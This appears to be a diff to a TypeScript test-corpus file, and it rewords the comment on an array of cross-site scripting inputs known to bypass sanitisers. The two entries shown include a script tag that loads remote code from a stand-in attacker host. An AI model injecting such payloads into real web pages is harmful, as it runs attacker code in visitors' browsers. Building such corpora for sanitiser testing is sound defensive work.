@@ -1,4 +1,4 @@
-/** What people have got past sanitisers with: scripts, handlers, schemes, styles, odd nesting. */
+/** Inputs that have bypassed sanitisers: scripts, handlers, schemes, styles, odd nesting. */
 export const XSS_CORPUS: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
